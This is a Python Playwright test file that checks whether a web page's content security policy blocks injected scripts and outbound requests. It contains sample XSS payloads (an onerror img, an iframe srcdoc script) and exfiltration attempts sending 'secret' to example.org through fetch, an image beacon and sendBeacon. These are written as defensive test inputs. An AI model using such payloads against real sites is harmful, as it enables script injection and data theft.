"""The page under its content policy, in a real browser: nothing leaves, nothing foreign runs."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Browser, Page, expect

pytestmark = pytest.mark.browser

INJECT = """() => {
  const box = document.createElement('div');
  box.innerHTML = '<img src="data:," onerror="window.broken = 1">'
    + '<iframe srcdoc="<script>parent.broken = 1</scr' + 'ipt>"></iframe>';
  document.body.append(box);
  const script = document.createElement('script');
  script.textContent = 'window.broken = 1';
  document.body.append(script);
  return new Promise((go) => setTimeout(() => go(window.broken || 0), 1000));
}"""
SEND = """async () => {
  const tries = [fetch('https://example.org/?secret'), fetch('//127.0.0.1:9/')];
  new Image().src = 'https://example.org/?secret';
  navigator.sendBeacon('https://example.org/', 'secret');
  return (await Promise.allSettled(tries)).map((t) => t.status);
}"""


def test_the_page_keeps_to_its_policy(page: Page, server: str) -> None:
    """`page` itself fails on any request that leaves 127.0.0.1."""
    broken: list[str] = []
    page.on("console", lambda m: broken.append(m.text) if "Content Security" in m.text else None)
    page.goto(server)
    page.wait_for_selector("#rx-go")
    page.click("[data-example=penguin]")
    expect(page.locator("#rx-captions textarea")).to_have_value(
        re.compile("penguin"), timeout=60_000)
    assert not broken, "the page's own scripts and styles are within the policy"


def test_what_is_put_into_the_page_does_not_run(page: Page, server: str) -> None:
    page.goto(server)
    page.wait_for_selector("#rx-go")
    assert page.evaluate(INJECT) == 0
    assert page.evaluate("1 + 1") == 2


def test_nothing_can_be_sent_elsewhere(browser: Browser, server: str) -> None:
    """A context of its own: the fixture `page` fails on requests that were only tried."""
    context = browser.new_context()
    page = context.new_page()
    violated: list[str] = []
    answered: list[str] = []
    page.on("console", lambda m: violated.append(m.text) if "Content Security" in m.text else None)
    page.on("response", lambda r: None if r.url.startswith(server) else answered.append(r.url))
    page.goto(server)
    page.wait_for_selector("#rx-go", timeout=120_000)
    assert page.evaluate(SEND) == ["rejected", "rejected"]
    expect(page.locator("#rx-go")).to_be_visible()
    assert sum("connect-src" in v for v in violated) >= 2 and any("img-src" in v for v in violated)
    assert not [url for url in answered if not url.startswith(("data:", "blob:"))]
    context.close()
